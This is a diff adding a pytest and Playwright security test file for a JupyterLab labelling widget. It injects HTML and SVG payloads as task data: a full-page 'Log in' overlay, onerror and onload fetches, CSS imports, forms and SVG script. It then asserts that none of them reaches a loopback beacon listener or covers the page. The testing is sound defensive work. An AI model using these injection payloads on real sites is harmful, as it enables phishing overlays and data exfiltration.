@@ -1,0 +1,294 @@
+"""Task data attacking the page, in a real JupyterLab and a real Chromium: nothing escapes its box.
+
+One JupyterLab serves the whole module; each attack is a notebook written into its root, run there, and
+watched from outside: a loopback HTTP listener is the beacon target and records every request path, and the
+page itself is asked what covers it. A listener that saw anything, an overlay on top of the notebook or a
+script that ran is a failure. The attacks go the whole way (kernel, protocol, front end), so they keep
+holding whatever layer ends up refusing or cleaning the payload.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import threading
+from collections.abc import Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Page, expect
+
+from tests.e2e.servers import ARTIFACTS, Server, jupyter_lab
+from tests.e2e.test_quickstart import run_all_cells
+from tests.e2e.widget_page import choice, shot, wait_for, widgets
+
+pytestmark = pytest.mark.e2e
+
+USER = "mallory-target@example.org"
+
+
+@dataclass
+class Listener:
+    """A loopback HTTP server that answers everything and remembers every path it was asked for."""
+
+    url: str
+    paths: list[str] = field(default_factory=list)
+    lock: threading.Lock = field(default_factory=threading.Lock)
+
+    def seen(self) -> list[str]:
+        with self.lock:
+            return list(self.paths)
+
+    def clear(self) -> None:
+        with self.lock:
+            self.paths.clear()
+
+
+@pytest.fixture(scope="module")
+def listener() -> Iterator[Listener]:
+    box: dict[str, Listener] = {}
+
+    class Handler(BaseHTTPRequestHandler):
+        def _answer(self) -> None:
+            with box["l"].lock:
+                box["l"].paths.append(self.path)
+            body = b"{}"
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.send_header("Content-Length", str(len(body)))
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+            if self.command != "HEAD":
+                self.wfile.write(body)
+
+        do_GET = do_POST = do_HEAD = do_OPTIONS = _answer
+
+        def log_message(self, format: str, *args: Any) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    box["l"] = Listener(f"http://127.0.0.1:{server.server_address[1]}")
+    thread = threading.Thread(target=server.serve_forever, daemon=True)
+    thread.start()
+    yield box["l"]
+    server.shutdown()
+    server.server_close()
+    thread.join(timeout=10)
+
+
+@pytest.fixture(scope="module")
+def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Path]]:
+    tmp = tmp_path_factory.mktemp("browser-attacks")
+    workdir = tmp / "projects"
+    with jupyter_lab(tmp, workdir, USER) as server:
+        yield server, workdir
+
+
+def write_notebook(root: Path, name: str, *sources: str) -> str:
+    cells = [
+        {"cell_type": "code", "metadata": {}, "source": src, "outputs": [], "execution_count": None}
+        for src in sources
+    ]
+    notebook = {
+        "cells": cells,
+        "metadata": {
+            "kernelspec": {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"},
+            "language_info": {"name": "python"},
+        },
+        "nbformat": 4,
+        "nbformat_minor": 5,
+    }
+    (root / name).write_text(json.dumps(notebook))
+    return name
+
+
+def open_and_run(page: Page, server: Server, notebook: str) -> None:
+    """Open ``notebook`` alone (a workspace of its own: the server's default one would bring back the
+    notebooks of earlier tests) and run all its cells once it is the current document."""
+    workspace = notebook.removesuffix(".ipynb")
+    page.goto(f"{server.url}/lab/workspaces/{workspace}/tree/{notebook}?token={server.token}")
+    page.wait_for_function(
+        "name => { const w = window.jupyterapp && window.jupyterapp.shell.currentWidget;"
+        " return !!(w && w.context && w.context.path === name); }",
+        arg=notebook,
+        timeout=120_000,
+    )
+    run_all_cells(page)
+
+
+def requests_after_settling(page: Page, listener: Listener) -> list[str]:
+    """What the listener saw once the page has had every chance to reach it.
+
+    The page goes idle, then asks the listener for one last, known path itself: anything the widget's
+    content was going to request was requested before that, so once the sentinel has arrived the list is
+    complete.
+    """
+    page.wait_for_load_state("networkidle")
+    sentinel = f"/sentinel-{secrets.token_hex(4)}"
+    page.evaluate("url => { new Image().src = url; }", listener.url + sentinel)
+    wait_for(lambda: sentinel in listener.seen(), "the sentinel request to reach the listener")
+    return [p for p in listener.seen() if not p.startswith("/sentinel-")]
+
+
+OVERLAY_PROBE = """() => {
+  const w = window.innerWidth, h = window.innerHeight;
+  const points = [[w / 2, h / 2], [4, 4], [w - 4, 4], [4, h - 4], [w - 4, h - 4], [w / 2, 40]];
+  return points.map(([x, y]) => {
+    const el = document.elementFromPoint(x, y);
+    return { x, y, inside: !!(el && el.closest('.lnb-choice-text')), what: el ? el.tagName + '.' + el.className : null };
+  });
+}"""
+
+INJECTED_LEFTOVERS = """root => {
+  const text = root.querySelectorAll('.lnb-choice-text');
+  const bad = [];
+  for (const box of text) {
+    for (const el of box.querySelectorAll('*')) {
+      const tag = el.tagName.toLowerCase();
+      if (['style', 'link', 'meta', 'base', 'form', 'input', 'button', 'select', 'textarea', 'iframe', 'frame',
+           'object', 'embed', 'svg', 'math', 'script', 'video'].includes(tag)) bad.push(tag);
+      for (const a of el.attributes) {
+        const n = a.name.toLowerCase();
+        if (n === 'style' || n === 'href' || n === 'srcset' || n === 'background' || n === 'poster' ||
+            n.startsWith('on') || (n === 'src' && !a.value.startsWith('data:image/png'))) bad.push(tag + '[' + n + ']');
+      }
+      const cs = getComputedStyle(el);
+      if (cs.position === 'fixed' || cs.position === 'absolute') bad.push(tag + ' position:' + cs.position);
+    }
+  }
+  return bad;
+}"""
+
+DOT_PNG = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+
+
+def overlay_html(beacon: str) -> str:
+    return (
+        "<b>Pick</b> <i>me</i> <img src='" + DOT_PNG + "' alt='dot'>"
+        '<div style="position:fixed;inset:0;z-index:99999;background:white;font-size:40px">'
+        f'<a href="{beacon}/login">Log in</a> to continue</div>'
+        f'<img src="{beacon}/beacon">'
+        f'<img srcset="{beacon}/srcset 1x, {beacon}/srcset2 2x">'
+        f'<link rel="prefetch" href="{beacon}/prefetch"><link rel="stylesheet" href="{beacon}/stylesheet">'
+        f'<span style="background:url({beacon}/css-background)">bg</span>'
+        f"<style>@import url({beacon}/css-import); .jp-Notebook {{ display: none }}</style>"
+        f"<img src=x onerror=\"fetch('{beacon}/onerror')\">"
+        f'<svg onload="fetch(\'{beacon}/svg-onload\')"><image href="{beacon}/svg-image"/></svg>'
+        f'<form action="{beacon}/form"><input name="password"><button formaction="{beacon}/formaction">Go</button>'
+        "</form>"
+        f'<iframe src="{beacon}/iframe"></iframe><video poster="{beacon}/poster"></video>'
+        f'<table background="{beacon}/table-background"><tr><td>cell</td></tr></table>'
+    )
+
+
+def test_choice_html_from_task_data_stays_in_its_box(
+    page: Page, lab: tuple[Server, Path], listener: Listener
+) -> None:
+    server, _ = lab
+    listener.clear()
+    html = overlay_html(listener.url)
+    config = '<View><Text name="t" value="$text"/><Choices name="c" toName="t" value="$opts"/></View>'
+    tasks = [{"text": "Which one?", "opts": [{"value": "x", "html": html}, {"value": "plain"}]}]
+    notebook = write_notebook(
+        server.root,
+        "attack-choice-html.ipynb",
+        "import os\nfrom pathlib import Path\nimport labelnb as lnb\n"
+        f"folder = Path(os.environ['LABELNB_WORKDIR']) / 'choice-html'\n"
+        f"project = lnb.Project.create(folder, config={config!r})\n"
+        f"project.import_tasks({tasks!r})\n"
+        "project.annotate()",
+    )
+    open_and_run(page, server, notebook)
+    (widget,) = widgets(page, 1)
+    button = choice(widget, "c", "x")
+    expect(button).to_be_visible(timeout=60_000)
+    expect(choice(widget, "c", "plain")).to_be_visible()
+    expect(button).to_contain_text("Log in")  # the words are there, as text
+    # the harmless part of the markup survives
+    expect(button.locator(".lnb-choice-text b")).to_have_text("Pick")
+    expect(button.locator(".lnb-choice-text img[alt=dot]")).to_have_count(1)
+    widget.scroll_into_view_if_needed()
+
+    seen = requests_after_settling(page, listener)
+    covered = [p for p in page.evaluate(OVERLAY_PROBE) if p["inside"]]
+    leftovers = widget.evaluate(INJECTED_LEFTOVERS)
+    shot(page, "security-choice-html")
+    assert seen == [], f"the page reached the beacon listener: {seen}"
+    assert covered == [], f"injected content covers the page at {covered}"
+    assert leftovers == [], f"dangerous markup reached the page: {leftovers}"
+    # the notebook is still there and usable: the stylesheet's display:none did not apply
+    expect(page.locator(".jp-Notebook")).to_be_visible()
+    button.click()
+    expect(button).to_have_attribute("data-selected", "true")
+
+
+def evil_svg(beacon: str) -> str:
+    hit = (
+        "fetch('{b}/svg-{w}', {{mode: 'no-cors'}}); window.__pwned = '{w}';"
+        " try {{ top.document.title = 'PWNED-{w}'; top.__pwned = '{w}'; }} catch (e) {{}}"
+    )
+    return (
+        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
+        f'width="240" height="120" onload="{hit.format(b=beacon, w="onload")}">'
+        '<rect width="240" height="120" fill="#2563eb"/>'
+        '<circle cx="120" cy="60" r="40" fill="#f59e0b"/>'
+        f'<image href="{beacon}/svg-href" xlink:href="{beacon}/svg-xlink-href" width="20" height="20"/>'
+        f"<script>{hit.format(b=beacon, w='script')}</script>"
+        "</svg>"
+    )
+
+
+def test_svg_media_never_runs_as_a_document(page: Page, lab: tuple[Server, Path], listener: Listener) -> None:
+    server, _ = lab
+    listener.clear()
+    config = (
+        "<View><Image name='img' value='$image'/>"
+        "<Choices name='c' toName='img'><Choice value='a'/></Choices></View>"
+    )
+    notebook = write_notebook(
+        server.root,
+        "attack-svg.ipynb",
+        "import os\nfrom pathlib import Path\nimport labelnb as lnb\n"
+        "folder = Path(os.environ['LABELNB_WORKDIR']) / 'svg-image'\n"
+        f"project = lnb.Project.create(folder, config={config!r})\n"
+        f"(folder / 'evil.svg').write_text({evil_svg(listener.url)!r})\n"
+        "project.import_tasks([{'image': str(folder / 'evil.svg')}])\n"
+        "project.annotate(media_roots=[folder])",
+    )
+    open_and_run(page, server, notebook)
+    (widget,) = widgets(page, 1)
+    image = widget.locator("img[data-object=img]")
+    expect(image).to_have_attribute("data-state", "ready", timeout=60_000)
+    widget.scroll_into_view_if_needed()
+    assert image.evaluate("img => img.naturalWidth") > 0
+    src = image.get_attribute("src")
+    assert src is not None
+    assert src.startswith("blob:"), src
+    served = page.evaluate("url => fetch(url).then(r => r.blob()).then(b => b.type)", src)
+    shot(page, "security-svg-widget")
+    assert served == "image/png", f"the widget's image is {served}, not a rasterised PNG"
+    assert page.evaluate("() => window.__pwned === undefined") is True
+    assert "PWNED" not in page.title()
+    assert requests_after_settling(page, listener) == []
+
+    # what a person gets with "open image in new tab": an image document, in which nothing runs
+    alone = page.context.new_page()
+    try:
+        alone.goto(src)
+        alone.wait_for_load_state("load")
+        state = alone.evaluate(
+            "() => ({type: document.contentType, pwned: window.__pwned ?? null, title: document.title,"
+            " svg: document.documentElement.namespaceURI === 'http://www.w3.org/2000/svg'})"
+        )
+        ARTIFACTS.mkdir(parents=True, exist_ok=True)
+        alone.screenshot(path=str(ARTIFACTS / "security-svg-alone.png"))
+        assert state["type"] == "image/png", f"the blob URL opens as {state}"
+        assert state["svg"] is False, state
+        assert state["pwned"] is None, state
+        assert "PWNED" not in state["title"], state
+        assert requests_after_settling(page, listener) == []
+    finally:
+        alone.close()
